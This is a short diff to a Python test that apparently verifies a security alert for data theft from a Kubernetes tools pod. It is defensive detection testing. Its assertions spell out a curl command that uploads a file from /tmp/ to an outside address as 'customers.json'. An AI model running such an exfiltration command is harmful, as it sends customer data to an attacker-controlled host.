@@ -85,7 +85,7 @@ def test_scc_names_curl_the_sink_and_the_storage_tools_pod(written):
     assert (found["Kubernetes Pod"]["name"], found["Kubernetes Pod"]["namespace"]) == (TOOL_POD["pod"], "tools")
     process = next(e for e in alert["evidences"] if "process" in e)
     assert process["process"]["file"]["path"] == "/usr/bin/curl"
-    assert process["process"]["cmd_line"].startswith("curl -sS --max-time 10 -T /tmp/")
+    assert process["process"]["cmd_line"].startswith("curl -sS -v --max-time 10 -T /tmp/")
     assert process["process"]["cmd_line"].endswith(" http://203.0.113.50:8080/drop/customers.json")
     assert process["container"]["name"] == "storage-mcp"
     connection = next(e for e in alert["evidences"] if "dst_endpoint" in e)
